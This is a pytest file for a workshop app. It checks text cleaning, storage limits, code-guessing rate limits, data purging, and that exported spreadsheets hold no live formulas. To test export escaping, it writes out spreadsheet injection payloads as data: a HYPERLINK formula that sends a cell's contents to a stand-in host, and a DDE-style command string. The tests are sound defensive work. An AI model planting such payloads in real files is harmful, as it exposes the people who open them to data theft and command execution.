"""The workshop's guarantees that hold without a server: the store's limits, clean text, exports,
purging, and how slowly session codes can be guessed."""

from __future__ import annotations

import os
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from safekit.cli import main
from safekit.core.text import MAX_TEXT, clean_text
from safekit.room.export import export_session
from safekit.server.guard import Attempts
from safekit.sessions import Store
from safekit.sessions.folders import SERVING, new_session

ROOT = Path(__file__).resolve().parents[2]


def store_bytes(folder: Path) -> int:
    return sum(p.stat().st_size for p in folder.glob("store.sqlite*"))


def test_text_limits_and_bounded_history(tmp_path):
    folder, session = new_session(tmp_path / "data")
    with Store.for_session_dir(folder) as store:
        person = store.add_participant(session.id, "Steady Beacon 31")
        store.save_answer(person, "ana-permit-ends", "reflect", {"text": "z" * (1024 * 1024), "share": True})
        saved = store.answers(person.token)[("ana-permit-ends", "reflect")]["text"]
        assert len(saved) == MAX_TEXT
        before = store_bytes(folder)
        for i in range(100):
            store.save_answer(
                person, "ana-permit-ends", "reflect", {"text": f"{i} " + "w" * 6000, "share": False}
            )
        assert store_bytes(folder) - before < 2_000_000
        assert store.count("event") <= 20
        assert store.answers(person.token)[("ana-permit-ends", "reflect")]["text"].startswith("99 ")


def test_clean_text():
    payload = "a\x00b\x1bc\u202ed\u2066e\u200bf\u200dg\x85h\r\ni\tj"
    assert clean_text(payload, multiline=True) == "abcdefgh\ni j"
    assert clean_text(payload) == "abcdefgh i j"
    assert clean_text("x" * 50, limit=40) == "x" * 40


def test_clean_text_in_the_store(tmp_path):
    folder, session = new_session(tmp_path / "data")
    with Store.for_session_dir(folder) as store:
        person = store.add_participant(session.id, "Eve\u202e\u200b\x00 Lyn")
        store.save_answer(person, "ana-permit-ends", "reflect", {"text": "one\x00\x1b\u202eowt\nthree"})
        assert store.participant(person.token).pseudonym == "Eve Lyn"
        assert store.answers(person.token)[("ana-permit-ends", "reflect")]["text"] == "oneowt\nthree"


EVIL = '=HYPERLINK("http://ev.il/?"&I2,"Open")'


def test_exports_contain_no_live_formulas(tmp_path):
    folder, session = new_session(tmp_path / "data")
    with Store.for_session_dir(folder) as store:
        for name in (EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"):
            person = store.add_participant(session.id, name)
            store.save_answer(person, "ana-permit-ends", "reflect", {"text": "note", "share": False})
    csv, xlsx = export_session(folder, tmp_path / "exports")
    text = csv.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-2+3" in text
    with zipfile.ZipFile(xlsx) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)
    import openpyxl

    ws = openpyxl.load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + EVIL and c.data_type == "s" for c in cells)


def test_code_guessing_takes_more_than_an_hour():
    """500 wrong codes from one address, as fast as the server lets them through."""
    now = [0.0]
    attempts = Attempts(clock=lambda: now[0])
    tried = 0
    while tried < 500:
        wait = attempts.locked("10.0.0.9")
        if wait:
            now[0] += wait  # the patient guesser waits exactly as long as needed
            continue
        attempts.wrong("10.0.0.9")
        tried += 1
        now[0] += 0.001
    assert now[0] > 3600
    assert attempts.locked("10.0.0.10") == 0  # other devices are not held up


def _session_with_exports(tmp_path: Path, marker: str) -> tuple[Path, Path]:
    project = tmp_path / "project"
    folder, session = new_session(project / "workshops")
    with Store.for_session_dir(folder) as store:
        person = store.add_participant(session.id, marker)
        store.save_answer(person, "ana-permit-ends", "reflect", {"text": marker, "share": False})
    export_session(folder, project / "exports")
    sheets = project / "exports" / f"{folder.name}-worksheets"
    sheets.mkdir()
    (sheets / f"{marker}-ana-permit-ends.html").write_text(f"<p>{marker}</p>")
    (project / "exports" / "other-session-answers.csv").write_text("kept")
    return project, folder


def test_purge_is_safe_and_complete(tmp_path, monkeypatch):
    marker = "Purgemarker Zq"
    project, folder = _session_with_exports(tmp_path, marker)
    monkeypatch.chdir(project)
    monkeypatch.setenv("SAFEKIT_PROJECT", str(project))
    runner = CliRunner()

    (folder / SERVING).write_text(str(os.getpid()))  # a workshop server (alive) serves it
    refused = runner.invoke(main, ["purge", folder.name, "--data-dir", str(project / "workshops"), "--yes"])
    assert refused.exit_code == 1 and "running workshop" in refused.output
    assert (folder / "store.sqlite").is_file() and any((project / "exports").glob(f"{folder.name}-*"))

    (folder / SERVING).unlink()  # the workshop stopped
    done = runner.invoke(main, ["purge", folder.name, "--data-dir", str(project / "workshops"), "--yes"])
    assert done.exit_code == 0, done.output
    assert "3 exported file(s)" in done.output  # two tables and a worksheet
    assert not folder.exists()
    assert (project / "exports" / "other-session-answers.csv").is_file()
    found = subprocess.run(["grep", "-rl", "Purgemarker", str(tmp_path)], capture_output=True, text=True)
    assert found.stdout == ""


def test_exports_folder_is_ignored_by_git():
    assert "exports/" in (ROOT / ".gitignore").read_text().splitlines()


@pytest.mark.parametrize("address", ["10.0.0.1"])
def test_a_locked_address_waits_about_a_minute(address):
    now = [0.0]
    attempts = Attempts(clock=lambda: now[0])
    for _ in range(9):
        attempts.wrong(address)
    assert attempts.locked(address) == 0
    attempts.wrong(address)
    assert 59 <= attempts.locked(address) <= 60
